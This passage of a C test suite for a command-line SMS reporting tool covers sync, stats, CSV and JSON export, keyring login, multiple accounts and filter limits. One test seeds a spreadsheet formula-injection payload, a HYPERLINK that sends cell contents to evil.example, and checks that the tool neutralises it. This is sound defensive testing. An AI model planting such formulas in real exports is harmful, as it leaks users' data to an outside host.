/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * test-cli.c: sms-reports-cli end to end against the sandbox: login (real
 * keyring when the test runs in build-aux/test's session), sync, stats
 * --json (equal to the Dashboard's SrInsights), messages --format csv/json with filters, campaigns, and the exit
 * codes for usage, authentication, network and data errors.
 */

#include "config.h"

#include <gio/gio.h>
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <sqlite3.h>

#include "sr-core.h"
#include "sr-cache-private.h"
#include "sr-campaign-private.h"
#include "sr-message-private.h"
#include "sr-test-mount.h"
#include "sr-test-sandbox.h"

typedef struct
{
  SrTestSandbox *sandbox;
  char          *dir;
  char          *data_dir;
} Fixture;

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  data)
{
  fixture->sandbox = sr_test_sandbox_start ("--messages", "6000", "--campaigns", "40", "--seed", "21", NULL);
  fixture->dir = sr_test_make_tmpdir ("test-cli");
  fixture->data_dir = g_build_filename (fixture->dir, "data", NULL);
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  data)
{
  sr_test_sandbox_free (fixture->sandbox);
  sr_test_remove_tree (fixture->dir);
  g_free (fixture->data_dir);
  g_free (fixture->dir);
}

/* Runs the CLI with the sandbox URLs (api_url "" for none: an account's
 * own) and data dir; returns the exit code. */
static int
run_cli (Fixture     *fixture,
         const char  *api_key,
         const char  *api_url,
         const char  *stdin_text,
         char       **out_stdout,
         char       **out_stderr,
         ...)
{
  g_autoptr(GSubprocessLauncher) launcher = NULL;
  g_autoptr(GSubprocess) process = NULL;
  g_autoptr(GPtrArray) args = g_ptr_array_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  const char *url = api_url ? api_url : sr_test_sandbox_get_url (fixture->sandbox);
  const char *arg;
  va_list ap;

  g_ptr_array_add (args, (gpointer) g_getenv ("SR_CLI_PATH"));
  if (*url != '\0')
    {
      g_ptr_array_add (args, "--api-url");
      g_ptr_array_add (args, (gpointer) url);
      g_ptr_array_add (args, "--auth-url");
      g_ptr_array_add (args, (gpointer) url);
    }
  g_ptr_array_add (args, "--data-dir");
  g_ptr_array_add (args, fixture->data_dir);
  va_start (ap, out_stderr);
  while ((arg = va_arg (ap, const char *)) != NULL)
    g_ptr_array_add (args, (gpointer) arg);
  va_end (ap);
  g_ptr_array_add (args, NULL);

  launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDIN_PIPE |
                                        G_SUBPROCESS_FLAGS_STDOUT_PIPE |
                                        G_SUBPROCESS_FLAGS_STDERR_PIPE);
  if (api_key != NULL)
    g_subprocess_launcher_setenv (launcher, "SMSTO_API_KEY", api_key, TRUE);
  else
    g_subprocess_launcher_unsetenv (launcher, "SMSTO_API_KEY");

  process = g_subprocess_launcher_spawnv (launcher, (const char * const *) args->pdata, &error);
  g_assert_no_error (error);
  g_subprocess_communicate_utf8 (process, stdin_text ? stdin_text : "", NULL, &out, &err, &error);
  g_assert_no_error (error);

  if (g_test_verbose () && err && *err)
    g_printerr ("%s", err);

  if (out_stdout)
    *out_stdout = g_steal_pointer (&out);
  if (out_stderr)
    *out_stderr = g_steal_pointer (&err);

  g_assert_true (g_subprocess_get_if_exited (process));
  return g_subprocess_get_exit_status (process);
}

/* A strict RFC 4180 reader: rows of fields; fails the test on bad syntax. */
static GPtrArray *
parse_csv (const char *text)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
  GString *field = g_string_new (NULL);
  const char *p = text;

  while (*p)
    {
      if (*p == '"')
        {
          p++;
          for (;;)
            {
              g_assert_true (*p != '\0');
              if (*p == '"' && p[1] == '"')
                {
                  g_string_append_c (field, '"');
                  p += 2;
                }
              else if (*p == '"')
                {
                  p++;
                  break;
                }
              else
                g_string_append_c (field, *p++);
            }
        }
      else
        {
          while (*p && *p != ',' && *p != '\r' && *p != '\n')
            {
              g_assert_true (*p != '"');
              g_string_append_c (field, *p++);
            }
        }

      g_ptr_array_add (row, g_strdup (field->str));
      g_string_truncate (field, 0);

      if (*p == ',')
        p++;
      else
        {
          g_assert_true (p[0] == '\r' && p[1] == '\n');
          p += 2;
          g_ptr_array_add (rows, row);
          row = g_ptr_array_new_with_free_func (g_free);
        }
    }

  g_assert_cmpuint (row->len, ==, 0);
  g_ptr_array_unref (row);
  g_string_free (field, TRUE);
  return rows;
}

static const char *
cell (GPtrArray *rows,
      guint      row,
      guint      column)
{
  GPtrArray *fields = g_ptr_array_index (rows, row);

  g_assert_cmpuint (column, <, fields->len);
  return g_ptr_array_index (fields, column);
}

static void
test_end_to_end (Fixture       *fixture,
                 gconstpointer  data)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GHashTable) by_status = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *checksum = NULL;
  JsonObject *stats;
  JsonObject *stats_by_status;
  gint64 total = 0;
  gint64 delivered;

  sr_test_sandbox_get_summary (fixture->sandbox, &total, &checksum, &by_status);

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "sync", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "New messages: 6000"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* stats --json */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "stats", "--json", NULL), ==, 0);
  json_parser_load_from_data (parser, out, -1, &error);
  g_assert_no_error (error);
  stats = json_node_get_object (json_parser_get_root (parser));
  g_assert_cmpint (json_object_get_int_member (stats, "total"), ==, total);
  g_assert_cmpint (json_object_get_int_member (stats, "campaigns"), ==, 40);
  g_assert_cmpint (json_object_get_int_member (stats, "billable") +
                   json_object_get_int_member (stats, "non_billable"), ==, total);
  g_assert_cmpfloat (json_object_get_double_member (stats, "cost"), >, 0);
  g_assert_true (g_str_has_suffix (json_object_get_string_member (stats, "last_sync"), "Z"));
  stats_by_status = json_object_get_object_member (stats, "by_status");
  g_assert_cmpuint (json_object_get_size (stats_by_status), ==, g_hash_table_size (by_status));
  {
    GHashTableIter iter;
    gpointer name, count;

    g_hash_table_iter_init (&iter, by_status);
    while (g_hash_table_iter_next (&iter, &name, &count))
      g_assert_cmpint (json_object_get_int_member (stats_by_status, name), ==, GPOINTER_TO_INT (count));
  }
  delivered = json_object_get_int_member (stats_by_status, "DELIVERED");
  g_assert_cmpint (delivered, >, 0);
  g_clear_pointer (&out, g_free);

  /* messages --format csv: every message, RFC 4180 */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv", NULL), ==, 0);
  g_assert_true (g_utf8_validate (out, -1, NULL));
  rows = parse_csv (out);
  g_assert_cmpuint (rows->len, ==, total + 1);
  {
    GPtrArray *header = g_ptr_array_index (rows, 0);
    const char *expected[] = { "id", "created_at", "sent_at", "updated_at", "to", "sender_id", "status",
                               "sms_count", "cost", "campaign_id", "failed_reason", "message" };
    g_autoptr(GHashTable) ids = g_hash_table_new (g_str_hash, g_str_equal);
    gboolean saw_quoted_text = FALSE;

    g_assert_cmpuint (header->len, ==, G_N_ELEMENTS (expected));
    for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
      g_assert_cmpstr (g_ptr_array_index (header, i), ==, expected[i]);

    for (guint r = 1; r < rows->len; r++)
      {
        GPtrArray *row = g_ptr_array_index (rows, r);
        const char *created = g_ptr_array_index (row, 1);
        const char *text = g_ptr_array_index (row, 11);

        g_assert_cmpuint (row->len, ==, G_N_ELEMENTS (expected));
        g_assert_true (g_hash_table_add (ids, g_ptr_array_index (row, 0)));
        g_assert_cmpuint (strlen (created), ==, strlen ("2026-11-27T10:00:00Z"));
        g_assert_true (g_str_has_suffix (created, "Z"));
        /* ascending created order by default */
        if (r > 1)
          g_assert_cmpstr (cell (rows, r - 1, 1), <=, created);
        if (strpbrk (text, ",\"\n") != NULL)
          saw_quoted_text = TRUE;
      }
    /* the sandbox writes texts with commas, quotes and newlines */
    g_assert_true (saw_quoted_text);
  }
  g_clear_pointer (&out, g_free);

  /* A status filter gives the same count as stats */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--status", "delivered",
                            "--format", "json", NULL), ==, 0);
  json_parser_load_from_data (parser, out, -1, &error);
  g_assert_no_error (error);
  g_assert_cmpint (json_array_get_length (json_node_get_array (json_parser_get_root (parser))), ==, delivered);
  g_clear_pointer (&out, g_free);

  /* Sort by cost, descending, limited */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--sort", "cost", "--desc",
                            "--limit", "20", "--format", "json", NULL), ==, 0);
  json_parser_load_from_data (parser, out, -1, &error);
  g_assert_no_error (error);
  {
    JsonArray *array = json_node_get_array (json_parser_get_root (parser));

    g_assert_cmpuint (json_array_get_length (array), ==, 20);
    for (guint i = 1; i < 20; i++)
      g_assert_cmpfloat (json_object_get_double_member (json_array_get_object_element (array, i - 1), "cost"), >=,
                         json_object_get_double_member (json_array_get_object_element (array, i), "cost"));
  }
  g_clear_pointer (&out, g_free);

  /* campaigns as CSV: header + 40 rows */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", NULL), ==, 0);
  {
    g_autoptr(GPtrArray) campaign_rows = parse_csv (out);
    g_assert_cmpuint (campaign_rows->len, ==, 41);
  }
  g_clear_pointer (&out, g_free);

  /* A campaign's stats count exactly its messages */
  {
    g_autoptr(GPtrArray) campaign_rows = NULL;
    g_autoptr(JsonParser) campaign_parser = json_parser_new ();
    const char *campaign_id;

    g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", "--limit", "1", NULL), ==, 0);
    campaign_rows = parse_csv (out);
    campaign_id = cell (campaign_rows, 1, 0);
    g_clear_pointer (&err, g_free);
    g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &err, NULL, "stats", "--json", "--campaign", campaign_id, NULL), ==, 0);
    json_parser_load_from_data (campaign_parser, err, -1, &error);
    g_assert_no_error (error);
    g_assert_cmpint (json_object_get_int_member (json_node_get_object (json_parser_get_root (campaign_parser)), "total"), ==,
                     g_ascii_strtoll (cell (campaign_rows, 1, 5), NULL, 10));
    g_clear_pointer (&out, g_free);
    g_clear_pointer (&err, g_free);
  }
}

/* Runs "stats --json" with extra arguments and checks every number against
 * SrInsights, what the Dashboard shows, over the same cache and filter. */
static void
assert_stats_match_insights (Fixture               *fixture,
                             SrCache               *cache,
                             const SrMessageFilter *filter,
                             ...)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(SrInsights) insights = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  const SrInsightsTotals *totals;
  const SrInsightsStatus *statuses;
  JsonObject *stats;
  JsonObject *by_status;
  const char *args[8] = { "stats", "--json", };
  guint n_args = 2;
  guint n_statuses;
  const char *arg;
  va_list ap;

  va_start (ap, filter);
  while ((arg = va_arg (ap, const char *)) != NULL)
    {
      g_assert_cmpuint (n_args, <, G_N_ELEMENTS (args) - 1);
      args[n_args++] = arg;
    }
  va_end (ap);

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, args[0], args[1], args[2], args[3],
                            args[4], args[5], args[6], args[7], NULL), ==, 0);
  json_parser_load_from_data (parser, out, -1, &error);
  g_assert_no_error (error);
  stats = json_node_get_object (json_parser_get_root (parser));

  insights = sr_insights_query (cache, filter, SR_INSIGHTS_STATUSES, NULL, NULL, &error);
  g_assert_no_error (error);
  totals = sr_insights_get_totals (insights);
  statuses = sr_insights_get_statuses (insights, &n_statuses);

  g_assert_cmpint (totals->total, >, 0);
  g_assert_cmpint (json_object_get_int_member (stats, "total"), ==, totals->total);
  g_assert_cmpint (json_object_get_int_member (stats, "billable"), ==, totals->billable);
  g_assert_cmpint (json_object_get_int_member (stats, "non_billable"), ==, totals->non_billable);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (stats, "cost"), totals->cost, 1e-6);
  g_assert_cmpstr (json_object_get_string_member (stats, "currency"), ==, sr_insights_get_currency (insights));
  by_status = json_object_get_object_member (stats, "by_status");
  g_assert_cmpuint (json_object_get_size (by_status), ==, n_statuses);
  for (guint i = 0; i < n_statuses; i++)
    g_assert_cmpint (json_object_get_int_member (by_status, statuses[i].status_raw[0] ? statuses[i].status_raw
                                                                                       : "UNKNOWN"),
                     ==, statuses[i].count);
}

/* The CLI's stats and the Dashboard count through one path, so they agree
 * for every period and campaign. */
static void
test_stats_match_dashboard (Fixture       *fixture,
                            gconstpointer  data)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *name = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (fixture->sandbox), key);
  g_autofree char *path = g_build_filename (fixture->data_dir, name, NULL);
  g_autoptr(SrCache) cache = NULL;
  g_autoptr(SrMessageFilter) filter = sr_message_filter_new ();
  g_autoptr(GPtrArray) newest = NULL;
  g_autoptr(GPtrArray) campaigns = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GDateTime) from = NULL;
  g_autoptr(GDateTime) to = NULL;
  g_autofree char *from_text = NULL;
  g_autofree char *to_text = NULL;
  SrMessage *message;

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, NULL, "sync", NULL), ==, 0);
  cache = sr_cache_open (path, &error);
  g_assert_no_error (error);

  assert_stats_match_insights (fixture, cache, NULL, NULL);

  /* The week before the newest message, given in UTC to the CLI. */
  newest = sr_cache_query_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, TRUE, 1, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (newest->len, ==, 1);
  message = g_ptr_array_index (newest, 0);
  to = g_date_time_new_from_unix_utc (sr_message_get_created_at (message) / G_USEC_PER_SEC);
  from = g_date_time_add_days (to, -7);
  to_text = g_date_time_format (to, "%Y-%m-%dT%H:%M:%SZ");
  from_text = g_date_time_format (from, "%Y-%m-%dT%H:%M:%SZ");
  filter->from = g_date_time_to_unix (from) * G_USEC_PER_SEC;
  filter->to = g_date_time_to_unix (to) * G_USEC_PER_SEC;
  assert_stats_match_insights (fixture, cache, filter, "--from", from_text, "--to", to_text, NULL);

  /* The newest campaign. */
  campaigns = sr_cache_query_campaigns (cache, NULL, SR_CAMPAIGN_SORT_CREATED, TRUE, 1, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (campaigns->len, ==, 1);
  sr_message_filter_free (g_steal_pointer (&filter));
  filter = sr_message_filter_new ();
  filter->campaign_id = g_strdup (sr_campaign_get_id (g_ptr_array_index (campaigns, 0)));
  assert_stats_match_insights (fixture, cache, filter, "--campaign", filter->campaign_id, NULL);
}

static void
test_login_keyring (Fixture       *fixture,
                    gconstpointer  data)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autofree char *stdin_text = g_strconcat (key, "\n", NULL);

  if (g_getenv ("DBUS_SESSION_BUS_ADDRESS") == NULL)
    {
      g_test_skip ("No session bus (run through build-aux/test)");
      return;
    }

  /* A refused key: exit code 2, nothing stored */
  g_assert_cmpint (run_cli (fixture, NULL, NULL, "wrong-key\n", &out, &err, "login", NULL), ==, 2);
  g_assert_nonnull (strstr (err, "refused"));
  g_assert_null (strstr (err, "wrong-key"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* The right key from standard input, stored in the keyring */
  g_assert_cmpint (run_cli (fixture, NULL, NULL, stdin_text, &out, &err, "login", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "Signed in"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Without SMSTO_API_KEY, sync finds the key in the keyring */
  g_assert_cmpint (run_cli (fixture, NULL, NULL, NULL, &out, &err, "sync", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "New messages: 6000"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  g_assert_cmpint (run_cli (fixture, NULL, NULL, NULL, &out, &err, "logout", NULL), ==, 0);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Signed out: authentication error */
  g_assert_cmpint (run_cli (fixture, NULL, NULL, NULL, &out, &err, "stats", NULL), ==, 2);
}

static gint64
stats_total (Fixture    *fixture,
             const char *account)
{
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;

  if (account != NULL)
    g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "--account", account, "stats", "--json", NULL), ==, 0);
  else
    g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "stats", "--json", NULL), ==, 0);
  json_parser_load_from_data (parser, out, -1, &error);
  g_assert_no_error (error);
  return json_object_get_int_member (json_node_get_object (json_parser_get_root (parser)), "total");
}

static char *
dup_cache_checksum (const char *path)
{
  g_autoptr(SrCache) cache = NULL;
  g_autoptr(GError) error = NULL;
  char *checksum;

  cache = sr_cache_open (path, &error);
  g_assert_no_error (error);
  checksum = sr_cache_dup_checksum (cache, &error);
  g_assert_no_error (error);
  sr_cache_close (cache);
  return checksum;
}

/* Two accounts on two sandboxes with different data and keys: each command
 * reads the account it is given (or the one used last), their files never
 * mix, and removing one with its reports leaves the other whole. */
static void
test_two_accounts (Fixture       *fixture,
                   gconstpointer  data)
{
  g_autoptr(SrTestSandbox) other = NULL;
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *stdin_a = g_strconcat (key, "\n", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autofree char *checksum_a = NULL;
  g_autofree char *checksum_b = NULL;
  g_autofree char *file_a = NULL;
  g_autofree char *file_b = NULL;
  g_autofree char *path_a = NULL;
  g_autofree char *path_b = NULL;
  g_autofree char *after = NULL;
  gint64 total_a = 0;
  gint64 total_b = 0;

  if (g_getenv ("DBUS_SESSION_BUS_ADDRESS") == NULL)
    {
      g_test_skip ("No session bus (run through build-aux/test)");
      return;
    }

  other = sr_test_sandbox_start ("--messages", "900", "--campaigns", "6", "--seed", "77",
                                 "--api-key", "other-key", NULL);
  sr_test_sandbox_get_summary (fixture->sandbox, &total_a, &checksum_a, NULL);
  sr_test_sandbox_get_summary (other, &total_b, &checksum_b, NULL);
  g_assert_cmpint (total_a, !=, total_b);

  /* Nothing added yet. */
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "accounts", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "No accounts"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  g_assert_cmpint (run_cli (fixture, NULL, NULL, stdin_a, &out, &err, "--account", "Live", "login", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "Live"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run_cli (fixture, NULL, sr_test_sandbox_get_url (other), "other-key\n", &out, &err,
                            "login", "--account", "Test", NULL), ==, 0);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* An account nobody added is a usage error that names it. */
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "--account", "nobody", "stats", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "nobody"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Listed by name and kind, never by key; the last login is the default. */
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "accounts", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "  Live\t"));
  g_assert_nonnull (strstr (out, "* Test\t"));
  g_assert_null (strstr (out, key));
  g_assert_null (strstr (out, "other-key"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Each account syncs from its own server into its own file. */
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "sync", "--account", "live", NULL), ==, 0);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "sync", NULL), ==, 0);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  g_assert_cmpint (stats_total (fixture, "Live"), ==, total_a);
  g_assert_cmpint (stats_total (fixture, "Test"), ==, total_b);
  g_assert_cmpint (stats_total (fixture, NULL), ==, total_b);

  file_a = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (fixture->sandbox), key);
  file_b = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (other), "other-key");
  path_a = g_build_filename (fixture->data_dir, file_a, NULL);
  path_b = g_build_filename (fixture->data_dir, file_b, NULL);
  g_assert_cmpstr (path_a, !=, path_b);
  after = dup_cache_checksum (path_a);
  g_assert_cmpstr (after, ==, checksum_a);
  g_clear_pointer (&after, g_free);
  after = dup_cache_checksum (path_b);
  g_assert_cmpstr (after, ==, checksum_b);
  g_clear_pointer (&after, g_free);

  /* Remove Test with its reports: Live stays whole and becomes the default. */
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "logout", "--account", "Test", "--delete-data", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "Live"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_false (g_file_test (path_b, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (path_a, G_FILE_TEST_EXISTS));
  after = dup_cache_checksum (path_a);
  g_assert_cmpstr (after, ==, checksum_a);
  g_clear_pointer (&after, g_free);
  g_assert_cmpint (stats_total (fixture, NULL), ==, total_a);
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "--account", "Test", "stats", NULL), ==, 1);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Remove Live keeping its reports: the file stays, the key goes. */
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "logout", NULL), ==, 0);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_true (g_file_test (path_a, G_FILE_TEST_EXISTS));
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "stats", NULL), ==, 2);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run_cli (fixture, NULL, "", NULL, &out, &err, "accounts", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "No accounts"));
}

/* The cache file the CLI opens for the sandbox account. */
static char *
dup_account_db_path (Fixture *fixture)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *name = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (fixture->sandbox), key);

  g_assert_cmpint (g_mkdir_with_parents (fixture->data_dir, 0700), ==, 0);
  return g_build_filename (fixture->data_dir, name, NULL);
}

/* messages/campaigns --format csv neutralise cells a spreadsheet would run
 * as formulas; --raw gives the stored data; --raw is only for CSV. */
static void
test_csv_formulas (Fixture       *fixture,
                   gconstpointer  data)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  const char *formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
  g_autofree char *db_path = dup_account_db_path (fixture);
  g_autoptr(SrCache) cache = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(GPtrArray) campaigns = g_ptr_array_new_with_free_func (g_object_unref);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  SrMessage *message;
  SrCampaign *campaign;

  cache = sr_cache_open (db_path, &error);
  g_assert_no_error (error);
  message = sr_message_new_empty ();
  message->id = g_strdup ("m-1");
  message->to = g_strdup ("+447700900123");
  message->sender_id = g_strdup ("@Shop");
  message->message = g_strdup (formula);
  message->failed_reason = g_strdup ("-ERR");
  message->status_raw = g_strdup ("DELIVERED");
  message->status = SR_STATUS_DELIVERED;
  message->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
  message->cost = -0.25;
  message->sms_count = 1;
  g_ptr_array_add (messages, message);
  campaign = sr_campaign_new_empty ();
  campaign->id = g_strdup ("c-1");
  campaign->sender_id = g_strdup ("Shop");
  campaign->message = g_strdup ("\t=1+1");
  campaign->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
  g_ptr_array_add (campaigns, campaign);
  g_assert_true (sr_cache_upsert_messages (cache, messages, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (sr_cache_upsert_campaigns (cache, campaigns, NULL, NULL, &error));
  g_assert_no_error (error);
  sr_cache_close (cache);

  /* For spreadsheets (the default) */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv", NULL), ==, 0);
  {
    g_autoptr(GPtrArray) rows = parse_csv (out);
    g_autofree char *expected = g_strconcat ("'", formula, NULL);

    g_assert_cmpuint (rows->len, ==, 2);
    g_assert_cmpstr (cell (rows, 1, 0), ==, "m-1");
    g_assert_cmpstr (cell (rows, 1, 4), ==, "'+447700900123");
    g_assert_cmpstr (cell (rows, 1, 5), ==, "'@Shop");
    g_assert_cmpstr (cell (rows, 1, 8), ==, "-0.25");
    g_assert_cmpstr (cell (rows, 1, 10), ==, "'-ERR");
    g_assert_cmpstr (cell (rows, 1, 11), ==, expected);
  }
  g_clear_pointer (&out, g_free);

  /* Exact data for scripts */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv", "--raw", NULL), ==, 0);
  {
    g_autoptr(GPtrArray) rows = parse_csv (out);

    g_assert_cmpuint (rows->len, ==, 2);
    g_assert_cmpstr (cell (rows, 1, 4), ==, "+447700900123");
    g_assert_cmpstr (cell (rows, 1, 5), ==, "@Shop");
    g_assert_cmpstr (cell (rows, 1, 10), ==, "-ERR");
    g_assert_cmpstr (cell (rows, 1, 11), ==, formula);
  }
  g_clear_pointer (&out, g_free);

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", NULL), ==, 0);
  {
    g_autoptr(GPtrArray) rows = parse_csv (out);

    g_assert_cmpuint (rows->len, ==, 2);
    g_assert_cmpstr (cell (rows, 1, 2), ==, "Shop");
    g_assert_cmpstr (cell (rows, 1, 12), ==, "'\t=1+1");
  }
  g_clear_pointer (&out, g_free);
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", "--raw", NULL), ==, 0);
  {
    g_autoptr(GPtrArray) rows = parse_csv (out);

    g_assert_cmpstr (cell (rows, 1, 12), ==, "\t=1+1");
  }
  g_clear_pointer (&out, g_free);

  /* JSON and tables are not for spreadsheets: --raw is a usage error there */
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "messages", "--format", "json", "--raw", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "--raw"));
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "campaigns", "--raw", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "--raw"));
}

/* Over-long filter text is a usage error (exit 1) naming the option, before
 * the cache is even opened; the limit itself is accepted and answers. */
static void
test_search_limits (Fixture       *fixture,
                    gconstpointer  data)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *db_path = dup_account_db_path (fixture);
  g_autoptr(GString) at_limit = g_string_new (NULL);
  g_autoptr(GString) too_long = NULL;
  g_autoptr(GString) huge = g_string_new (NULL);
  g_autoptr(SrCache) cache = NULL;
  g_autoptr(GError) error = NULL;
  struct { const char *command; const char *option; } cases[] = {
    { "messages", "--search" },
    { "messages", "--recipient" },
    { "messages", "--sender" },
    { "messages", "--campaign" },
    { "campaigns", "--search" },
    { "campaigns", "--sender" },
    { "stats", "--campaign" },
  };

  /* Characters, not bytes: 1000 Greek letters are 2000 bytes */
  for (guint i = 0; i < SR_FILTER_TEXT_MAX_CHARS; i++)
    g_string_append (at_limit, "λ");
  too_long = g_string_new (at_limit->str);
  g_string_append_c (too_long, 'x');
  /* The 51 KB of the report that SQLite refused as too complex a pattern */
  for (guint i = 0; i < 51 * 1024; i++)
    g_string_append_c (huge, "%_a"[i % 3]);

  cache = sr_cache_open (db_path, &error);
  g_assert_no_error (error);
  sr_cache_close (cache);

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *out = NULL;
      g_autofree char *err = NULL;

      g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, cases[i].command, cases[i].option,
                                too_long->str, NULL), ==, 1);
      g_assert_nonnull (strstr (err, cases[i].option));
      g_assert_nonnull (strstr (err, "too long"));
      g_assert_nonnull (strstr (err, "1000"));
      g_assert_cmpstr (out, ==, "");
      g_clear_pointer (&out, g_free);
      g_clear_pointer (&err, g_free);

      g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, cases[i].command, cases[i].option,
                                huge->str, NULL), ==, 1);
      g_assert_nonnull (strstr (err, "too long"));
      g_assert_null (strstr (err, "LIKE"));
      g_clear_pointer (&out, g_free);
      g_clear_pointer (&err, g_free);

      /* At the limit it is a search like any other */
      g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, cases[i].command, cases[i].option,
                                at_limit->str, NULL), ==, 0);
      g_assert_cmpstr (err, ==, "");
    }

  /* campaign-messages takes the ID as an argument */
  {
    g_autofree char *err = NULL;

